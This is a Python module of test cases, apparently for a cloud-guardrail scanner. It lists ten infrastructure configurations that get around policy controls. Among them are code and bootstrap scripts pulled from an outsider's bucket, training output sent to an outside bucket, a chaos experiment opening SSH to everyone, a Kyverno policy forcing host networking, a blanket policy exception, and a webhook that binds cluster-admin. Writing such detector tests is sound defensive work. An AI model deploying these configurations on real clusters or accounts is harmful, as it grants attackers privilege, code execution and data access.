"""Ways around the guardrails, second blind set: code of strangers, rules about rules, and services that create.

Severity stands beside each; the source is the vendor's document that says that the cloud accepts it (2026-11-27).
"""

import json

from ..blind import GROUP, KEY, ME, TAGS, aws, az, crd, k8s, pod
from . import Attack

REGION = "me-central-1"
AT = {"resourceGroupName": "g", "location": "uaenorth", "tags": TAGS}
TARGET = f"{GROUP}/providers/Microsoft.Network/networkSecurityGroups/n/providers/Microsoft.Chaos/targets/x"
CHAOS = {"selectors": [{"id": "s", "type": "List", "targets": [{"id": TARGET, "type": "ChaosTarget"}]}],
         "steps": [{"name": "s", "branches": [{"name": "b", "actions": [{
             "type": "continuous", "selectorId": "s", "duration": "PT12H",
             "name": "urn:csci:microsoft:networkSecurityGroup:securityRule/1.1", "parameters": [
                 {"key": "name", "value": "open"}, {"key": "protocol", "value": "Any"},
                 {"key": "action", "value": "Allow"},
                 {"key": "sourceAddresses", "value": '["0.0.0.0/0"]'}, {"key": "sourcePortRanges", "value": '["*"]'},
                 {"key": "destinationAddresses", "value": '["*"]'}, {"key": "priority", "value": "100"},
                 {"key": "destinationPortRanges", "value": '["22"]'}, {"key": "direction", "value": "Inbound"},
             ]}]}]}]}  # fmt: skip
PIPELINE = {"Version": "2020-12-01", "Steps": [{"Name": "t", "Type": "Training", "Arguments": {
    "RoleArn": f"arn:aws:iam::{ME}:role/s", "AlgorithmSpecification": {
        "TrainingImage": f"{ME}.dkr.ecr.{REGION}.amazonaws.com/t:1", "TrainingInputMode": "File"},
    "ResourceConfig": {"InstanceCount": 100, "InstanceType": "ml.p5.48xlarge", "VolumeSizeInGB": 500},
    "OutputDataConfig": {"S3OutputPath": "s3://collected-by-a-stranger/"},
    "StoppingCondition": {"MaxRuntimeInSeconds": 2419200}}}]}  # fmt: skip
ADMIT = {"matchConstraints": {"resourceRules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"],
                                                 "resources": ["pods"]}]},
         "mutations": [{"patchType": "ApplyConfiguration", "applyConfiguration": {
             "expression": "Object{spec: Object.spec{hostPID: true, hostNetwork: true}}"}}]}  # fmt: skip
EXCEPTION = {"match": {"any": [{"resources": {"kinds": ["*"], "namespaces": ["*"]}}]}, "exceptions": [
    {"policyName": "*", "ruleNames": ["*"]}]}  # fmt: skip
CANARY = {
    "targetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"},
    "service": {"port": 80},
    "analysis": {
        "interval": "1m",
        "threshold": 5,
        "webhooks": [
            {
                "name": "w",
                "type": "pre-rollout",
                "url": "http://flagger-loadtester.test/",
                "metadata": {
                    "type": "bash",
                    "cmd": "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x",
                },
            }
        ],
    },
}
TEMPLATE = {"metadata": {"labels": TAGS}, "spec": pod({"securityContext": {"privileged": True}})}
JOB = {"metrics": [{"name": "m", "provider": {"job": {"spec": {"template": TEMPLATE}}}}]}

ATTACKS: tuple[Attack, ...] = (
    Attack(  # critical; Lambda, "Create a function": the code may lie in a bucket of another account
        "function whose code lies in a stranger's bucket",
        ("FJ-ESC-", "FJ-RES-"),
        (aws("lambda/Function", {
            "name": "f", "role": f"arn:aws:iam::{ME}:role/f", "runtime": "python3.13", "handler": "a.b",
            "s3Bucket": "published-by-a-stranger", "s3Key": "latest.zip", "kmsKeyArn": KEY, "tags": TAGS,
            "vpcConfig": {"subnetIds": ["subnet-1"], "securityGroupIds": ["sg-1"]}}),),
    ),
    Attack(  # critical; EMR, "Bootstrap actions": a script of any bucket runs as root on each node
        "cluster of EMR that runs a stranger's script on each node",
        ("FJ-ESC-",),
        (aws("emr/Cluster", {
            "name": "c", "releaseLabel": "emr-7.8.0", "serviceRole": f"arn:aws:iam::{ME}:role/emr", "tags": TAGS,
            "securityConfiguration": "cmk", "ec2Attributes": {"instanceProfile": "emr", "subnetId": "subnet-1"},
            "masterInstanceGroup": {"instanceType": "m6g.xlarge"},
            "bootstrapActions": [{"name": "b", "path": "s3://published-by-a-stranger/setup.sh"}]}),),
    ),
    Attack(  # high; SageMaker, "Pipeline definition": steps train on machines that no resource of the plan shows
        "pipeline of SageMaker that trains on a hundred GPU machines into a stranger's bucket",
        ("FJ-ESC-", "FJ-COST-", "FJ-RES-", "FJ-ENC-117"),
        (aws("sagemaker/Pipeline", {"pipelineName": "p", "pipelineDisplayName": "p", "tags": TAGS,
                                    "roleArn": f"arn:aws:iam::{ME}:role/s",
                                    "pipelineDefinition": json.dumps(PIPELINE)}),),
    ),
    Attack(  # critical; AKS, "Cluster extensions": an extension of a marketplace installs a chart with its settings
        "extension of AKS that installs an offer of the marketplace",
        ("FJ-ESC-",),
        (az("kubernetesconfiguration:Extension", {
            "resourceGroupName": "g", "clusterName": "aks", "clusterResourceName": "managedClusters",
            "clusterRp": "Microsoft.ContainerService", "extensionName": "x", "extensionType": "Partner.Agent",
            "autoUpgradeMinorVersion": True, "plan": {"name": "p", "product": "o", "publisher": "partner"}}),),
    ),
    Attack(  # critical; Chaos Studio, "Fault library": NSG security rule (set) creates the rule for twelve hours
        "experiment of Chaos Studio that opens ssh to everybody",
        ("FJ-ESC-", "FJ-EXP-"),
        (az("chaos:Experiment", {**AT, "experimentName": "e", "identity": {"type": "SystemAssigned"},
                                 "properties": CHAOS}),),
    ),
    Attack(  # high; App Service, "Continuous deployment": the app runs whatever the repository has
        "app that deploys itself from a stranger's repository",
        ("FJ-ESC-", "FJ-RES-"),
        (az("web:WebAppSourceControl", {"resourceGroupName": "g", "name": "app", "branch": "main",
                                        "repoUrl": "https://github.com/stranger/app", "isManualIntegration": False}),),
    ),
    Attack(  # critical; Kyverno, "MutatingPolicy": changes each pod after the guardrails have evaluated it
        "mutating policy of Kyverno that puts each pod on the node's network",
        ("FJ-ESC-103",),
        (k8s("policies.kyverno.io/v1alpha1:MutatingPolicy", {"metadata": {"name": "x", "labels": TAGS},
                                                             "spec": ADMIT}),),
    ),
    Attack(  # high; Kyverno, "Policy exceptions": every policy, every kind, every namespace
        "exception of Kyverno from every policy",
        ("FJ-ESC-",),
        (crd("kyverno.io/v2:PolicyException", EXCEPTION),),
    ),
    Attack(  # critical; Flagger, "Load tester": a webhook of type bash runs the command with the tester's account
        "canary whose webhook runs a command that binds an administrator",
        ("FJ-ESC-",),
        (crd("flagger.app/v1beta1:Canary", CANARY),),
    ),
    Attack(  # high; Argo Rollouts, "Job metrics": a template of analysis starts the pod of its job
        "template of analysis whose job is privileged",
        ("FJ-EXP-301",),
        (crd("argoproj.io/v1alpha1:AnalysisTemplate", JOB),),
    ),
)  # fmt: skip
